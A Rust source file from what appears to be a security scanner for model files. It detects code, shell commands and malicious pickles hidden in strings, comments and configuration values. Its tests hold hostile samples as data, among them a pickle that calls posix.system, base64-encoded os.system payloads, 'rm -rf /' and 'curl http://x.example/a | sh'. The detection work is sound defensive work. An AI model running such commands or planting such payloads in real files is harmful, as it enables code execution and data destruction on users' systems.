//! `WB-COD-001` to `WB-COD-005`: what hides in strings.

use weighbridge_core::Result;

use crate::engine::Check;
use crate::finding::Findings;
use crate::hidden::{self, Found, Hidden, Looker, Wanted};
use crate::leaves;
use crate::subject::{Subject, Text, TextOrigin};

/// Looks for code, command lines and pickles in every text and every configuration.
#[derive(Debug)]
pub struct CodeString;

impl Check for CodeString {
    fn rules(&self) -> &'static [&'static str] {
        &[
            "WB-COD-001",
            "WB-COD-002",
            "WB-COD-003",
            "WB-COD-004",
            "WB-COD-005",
        ]
    }

    fn run(&self, subject: &Subject<'_>, out: &mut Findings) -> Result<()> {
        if subject.texts.is_empty() && subject.configs.is_empty() {
            return Ok(());
        }
        let mut looker = Looker::new(out.catalogue()?)?;
        for t in &subject.texts {
            if let Some(h) = in_text(&mut looker, t)? {
                report(&t.place, t.base, &t.key, &h, out)?;
            }
        }
        let wanted = Wanted { commands: true };
        for c in &subject.configs {
            let mut result = Ok(());
            leaves::strings(&c.value, &mut |leaf| {
                let parts = [Some(leaf.text), interpolated(leaf.text)];
                for part in parts.into_iter().flatten().map(str::as_bytes) {
                    if result.is_ok() && hidden::may_hide(part, wanted) {
                        result = looker.look(part, wanted).and_then(|h| match h {
                            Some(h) => report(&c.place, None, &leaf.path, &h, out),
                            None => Ok(()),
                        });
                    }
                }
            });
            result?;
        }
        Ok(())
    }
}

/// Most lines of a comment that are looked at by themselves.
const LINES: usize = 200;

fn in_text(looker: &mut Looker, t: &Text) -> Result<Option<Hidden>> {
    let wanted = Wanted {
        commands: t.origin != TextOrigin::Pickle,
    };
    let found = looker.look(&t.bytes, wanted)?;
    if found.is_some() || t.origin != TextOrigin::Comment {
        return Ok(found);
    }
    // A comment wraps what it hides: a line of its own, or a word and a colon before it.
    for line in t.bytes.split(|b| *b == b'\n').take(LINES) {
        let line = line.trim_ascii();
        for part in [Some(line), after_label(line)].into_iter().flatten() {
            if let Some(h) = looker.look(part, wanted)? {
                return Ok(Some(h));
            }
        }
    }
    Ok(None)
}

/// What a resolver of OmegaConf is handed: `${eval:'…'}`.
fn interpolated(text: &str) -> Option<&str> {
    let inner = text.trim().strip_prefix("${")?.strip_suffix('}')?;
    let (_, argument) = inner.split_once(':')?;
    Some(argument.trim_matches(['\'', '"', ' ']))
}

/// What follows `Some words: `.
fn after_label(line: &[u8]) -> Option<&[u8]> {
    let at = line.windows(2).take(48).position(|w| w == b": ")?;
    line.get(at + 2..)
}

fn report(
    place: &str,
    offset: Option<u64>,
    key: &str,
    hidden: &Hidden,
    out: &mut Findings,
) -> Result<()> {
    let encoded = hidden::is_encoded(&hidden.layers);
    let layers = hidden::layer_text(&hidden.layers);
    let at = if key.is_empty() {
        "a string".to_owned()
    } else {
        format!("the string under `{}`", shortened(key))
    };
    let (rule, message) = match (&hidden.found, encoded) {
        (Found::Code { name, why }, false) => (
            "WB-COD-001",
            format!("{at} is code: it calls {name}, which {why}"),
        ),
        (Found::Code { name, why }, true) => (
            "WB-COD-002",
            format!("{at} hides code in {layers}: it calls {name}, which {why}"),
        ),
        (Found::Command(what), false) => ("WB-COD-003", format!("{at} is a command that {what}")),
        (Found::Command(what), true) => (
            "WB-COD-003",
            format!("{at} hides a command in {layers} that {what}"),
        ),
        (Found::Pickle(_), false) => (
            "WB-COD-004",
            format!("{at} is a pickle with what no profile allows"),
        ),
        (Found::Pickle(_), true) => (
            "WB-COD-005",
            format!("{at} hides a pickle in {layers} with what no profile allows"),
        ),
    };
    out.add(rule, place, offset, message, hidden.evidence.as_str())
}

fn shortened(key: &str) -> &str {
    match key.char_indices().nth(80) {
        Some((cut, _)) => key.get(..cut).unwrap_or_default(),
        None => key,
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;
    use weighbridge_core::source::SliceSource;

    use super::*;
    use crate::rule::Rules;
    use crate::subject::Config;

    fn rules(fill: impl FnOnce(&mut Subject<'_>)) -> Vec<String> {
        let source = SliceSource::new(Vec::new(), "x");
        let mut subject = Subject::new("x", &source);
        fill(&mut subject);
        let mut out = Findings::new(Rules::builtin().unwrap());
        CodeString.run(&subject, &mut out).unwrap();
        out.into_sorted().0.into_iter().map(|f| f.rule).collect()
    }

    fn text(origin: TextOrigin, bytes: &[u8]) -> Vec<String> {
        rules(|s| {
            s.texts.push(Text {
                place: String::new(),
                base: None,
                key: "k".into(),
                origin,
                bytes: bytes.to_vec(),
            });
        })
    }

    #[test]
    fn each_kind_has_its_rule() {
        use TextOrigin::{Comment, Config, Metadata, Pickle};
        let evil = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
        assert_eq!(text(Pickle, b"os.system('x')"), ["WB-COD-001"]);
        assert_eq!(
            text(Metadata, b"import os; os.system('echo pwned')"),
            ["WB-COD-001"]
        );
        assert_eq!(
            text(Pickle, b"b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp"),
            ["WB-COD-002"]
        );
        assert_eq!(text(Config, b"rm -rf /"), ["WB-COD-003"]);
        assert_eq!(text(Pickle, b"rm -rf /"), Vec::<String>::new());
        assert_eq!(text(Pickle, evil), ["WB-COD-004"]);
        assert_eq!(text(Metadata, b"Y3Bvc2l4CnN5c3RlbQ=="), ["WB-COD-005"]);
        assert_eq!(
            text(Comment, b" Hidden command: os.system('whoami') "),
            ["WB-COD-001"]
        );
        assert_eq!(
            text(Comment, b"\n curl http://x.example/a | sh\n"),
            ["WB-COD-003"]
        );
    }

    #[test]
    fn prose_is_quiet_everywhere() {
        use TextOrigin::{Comment, Metadata};
        for origin in [Comment, Metadata] {
            for t in [
                "A model that writes code such as os.system('ls') or eval(x)",
                "trained with import tricks; see eval() docs",
                "Note: os.system('x') must never be called",
                "see: https://example.org (a page)",
                "Hidden size: 768 (default)",
            ] {
                assert_eq!(text(origin, t.as_bytes()), Vec::<String>::new(), "{t}");
            }
        }
        // Only comments wrap.
        assert_eq!(
            text(Metadata, b"In words: os.system('whoami')"),
            Vec::<String>::new()
        );
    }

    #[test]
    fn strings_of_configurations_are_looked_at_and_vocabularies_are_not() {
        let config = |value| {
            rules(|s| {
                s.configs.push(Config {
                    name: "config.json".into(),
                    value,
                    ..Config::default()
                });
            })
        };
        assert_eq!(
            config(json!({"exec_on_load": "import os; os.system('whoami')"})),
            ["WB-COD-001"]
        );
        assert_eq!(config(json!({"a": [{"cmd": "rm -rf /"}]})), ["WB-COD-003"]);
        assert_eq!(
            config(json!({"lr": "${eval:'os.system(1)'}"})),
            ["WB-COD-001"]
        );
        assert!(config(json!({"lr": "${oc.env:LR,1e-3}", "x": "${eval:'2 * 3'}"})).is_empty());
        assert_eq!(
            config(json!({"model": {"vocab": [["eval(x)", 1]], "merges": ["os.system('x')"]}})),
            Vec::<String>::new()
        );
    }
}
